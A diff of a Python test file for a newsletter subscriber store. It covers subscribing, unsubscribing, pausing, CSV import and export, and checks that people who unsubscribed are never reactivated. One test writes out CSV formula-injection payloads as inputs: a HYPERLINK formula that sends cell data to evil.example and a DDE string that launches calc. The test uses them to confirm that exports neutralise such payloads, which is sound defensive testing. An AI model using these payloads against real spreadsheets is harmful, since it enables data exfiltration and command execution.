@@ -21,7 +21,7 @@ from digest.subscribers import (
 )
 from digest.subscriptions import ConsentRefused
 
-from .conftest import NOW
+from .conftest import NOW, import_subscribers, set_paused, subscribe, unsubscribe
 
 
 @pytest.fixture
@@ -111,10 +111,10 @@ def test_a_csv_without_an_email_column_is_refused() -> None:
 
 def test_export_round_trips_with_import(store: Store) -> None:
     rows, _ = read_csv(CSV, themes=THEMES)
-    store.import_subscribers([item for _, item in rows], now=NOW)
-    store.subscribe(check_input("fay@example.org", themes=THEMES), now=NOW)
-    store.unsubscribe("erin@example.org", now=NOW, channel="cli")
-    store.set_paused("ada@example.org", paused=True, now=NOW)
+    import_subscribers(store, [item for _, item in rows], now=NOW)
+    subscribe(store, check_input("fay@example.org", themes=THEMES), now=NOW)
+    unsubscribe(store, "erin@example.org", now=NOW, channel="cli")
+    set_paused(store, "ada@example.org", paused=True, now=NOW)
     exported = "".join(write_csv(store.iter_subscribers()))
     again, problems = read_csv(exported, themes=THEMES)
     assert problems == []
@@ -133,55 +133,55 @@ def test_export_round_trips_with_import(store: Store) -> None:
 
 def test_subscribe_update_unsubscribe_and_never_reactivate(store: Store) -> None:
     item = check_input("Ada@Example.org", name="Ada", topics=["rlhf"], themes=THEMES)
-    subscriber, created = store.subscribe(item, now=NOW)
+    subscriber, created = subscribe(store, item, now=NOW)
     assert created and subscriber.status == "active" and subscriber.topics == (Topic("rlhf"),)
     # Another spelling of the same mailbox updates the same subscriber.
     update = check_input("ada@EXAMPLE.org", theme="dark", themes=THEMES)
-    subscriber, created = store.subscribe(update, now=NOW)
+    subscriber, created = subscribe(store, update, now=NOW)
     assert not created
     assert (subscriber.name, subscriber.theme, subscriber.topics) == (
         "Ada",
         "dark",
         (Topic("rlhf"),),
     )
-    left = store.unsubscribe("ADA@example.org", now=NOW, channel="one-click")
+    left = unsubscribe(store, "ADA@example.org", now=NOW, channel="one-click")
     assert left is not None and left.status == "unsubscribed"
     assert store.count_subscribers() == {"pending": 0, "active": 0, "paused": 0, "unsubscribed": 1}
     with pytest.raises(ConsentRefused, match="ada@example.org unsubscribed; left unchanged"):
-        store.subscribe(update, now=NOW + timedelta(days=1))
+        subscribe(store, update, now=NOW + timedelta(days=1))
     assert store.get_subscriber("ada@example.org") == left  # every field as they left it
-    assert store.unsubscribe("nobody@example.org", now=NOW, channel="cli") is None
+    assert unsubscribe(store, "nobody@example.org", now=NOW, channel="cli") is None
 
 
 def test_an_import_never_resubscribes_someone_who_left(store: Store) -> None:
-    store.subscribe(check_input("left@example.org", themes=THEMES), now=NOW)
-    before = store.unsubscribe("left@example.org", now=NOW, channel="link")
+    subscribe(store, check_input("left@example.org", themes=THEMES), now=NOW)
+    before = unsubscribe(store, "left@example.org", now=NOW, channel="link")
     csv_text = "email,name,topics,theme\nleft@example.org,Left,rlhf,dark\nnew@example.org,New,,\n"
     rows, _ = read_csv(csv_text, themes=THEMES)
-    result = store.import_subscribers([item for _, item in rows], now=NOW + timedelta(hours=1))
+    result = import_subscribers(store, [item for _, item in rows], now=NOW + timedelta(hours=1))
     assert (result.created, result.updated, result.refused) == (1, 0, ("left@example.org",))
     assert store.get_subscriber("left@example.org") == before  # name, topics, theme untouched
     assert store.get_subscriber("new@example.org").status == "active"  # type: ignore[union-attr]
     # A suppression row for someone who left keeps them out and changes nothing either.
     rows, _ = read_csv("email,name,status\nleft@example.org,X,unsubscribed\n", themes=THEMES)
-    again = store.import_subscribers([item for _, item in rows], now=NOW + timedelta(hours=2))
+    again = import_subscribers(store, [item for _, item in rows], now=NOW + timedelta(hours=2))
     assert (again.kept_unsubscribed, again.refused) == (1, ())
     assert store.get_subscriber("left@example.org") == before
 
 
 def test_pause_is_a_state_that_counts_lists_and_stops_nothing_else(store: Store) -> None:
     for name in ("ada", "bob"):
-        store.subscribe(check_input(f"{name}@example.org", themes=THEMES), now=NOW)
-    paused = store.set_paused("ada@example.org", paused=True, now=NOW)
+        subscribe(store, check_input(f"{name}@example.org", themes=THEMES), now=NOW)
+    paused = set_paused(store, "ada@example.org", paused=True, now=NOW)
     assert paused is not None and paused.state == "paused" and paused.status == "active"
     assert store.count_subscribers() == {"pending": 0, "active": 1, "paused": 1, "unsubscribed": 0}
     assert [s.email for s in store.iter_subscribers(state="paused")] == ["ada@example.org"]
     assert [s.email for s in store.iter_subscribers(state="active")] == ["bob@example.org"]
     # An operator's import saying "active" does not lift a reader's pause; resume does.
     rows, _ = read_csv("email,status\nada@example.org,active\n", themes=THEMES)
-    store.import_subscribers([item for _, item in rows], now=NOW)
+    import_subscribers(store, [item for _, item in rows], now=NOW)
     assert store.get_subscriber("ada@example.org").state == "paused"  # type: ignore[union-attr]
-    resumed = store.set_paused("ada@example.org", paused=False, now=NOW)
+    resumed = set_paused(store, "ada@example.org", paused=False, now=NOW)
     assert resumed is not None and resumed.state == "active"
     history = store.subscriber_history(resumed.id)
     assert [(e.state, e.channel) for e in history] == [
@@ -195,8 +195,8 @@ def test_formula_like_cells_are_neutralised_in_the_file_and_survive_a_round_trip
     formula = '=HYPERLINK("http://evil.example/?q="&A2,"click")'
     item = check_input("eve@example.org", name="=cmd|' /C calc'!A0", topics=[formula],
                        themes=THEMES)  # fmt: skip
-    store.subscribe(item, now=NOW)
-    store.subscribe(check_input("-dash@example.org", name="@SUM(1)", themes=THEMES), now=NOW)
+    subscribe(store, item, now=NOW)
+    subscribe(store, check_input("-dash@example.org", name="@SUM(1)", themes=THEMES), now=NOW)
     exported = "".join(write_csv(store.iter_subscribers()))
     cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
@@ -211,11 +211,11 @@ def test_formula_like_cells_are_neutralised_in_the_file_and_survive_a_round_trip
 
 def test_an_imported_unsubscribed_row_stays_a_suppression(store: Store) -> None:
     rows, _ = read_csv("email,status\ngone@example.org,unsubscribed\n", themes=THEMES)
-    store.import_subscribers([item for _, item in rows], now=NOW)
+    import_subscribers(store, [item for _, item in rows], now=NOW)
     assert [s.status for s in store.iter_subscribers()] == ["unsubscribed"]
 
 
 def test_listing_pages_through_many_subscribers(store: Store) -> None:
     items = [check_input(f"user{n}@example.org", themes=THEMES) for n in range(2500)]
-    assert store.import_subscribers(items, now=NOW).created == 2500
+    assert import_subscribers(store, items, now=NOW).created == 2500
     assert len(list(store.iter_subscribers(state="active", page=1000))) == 2500
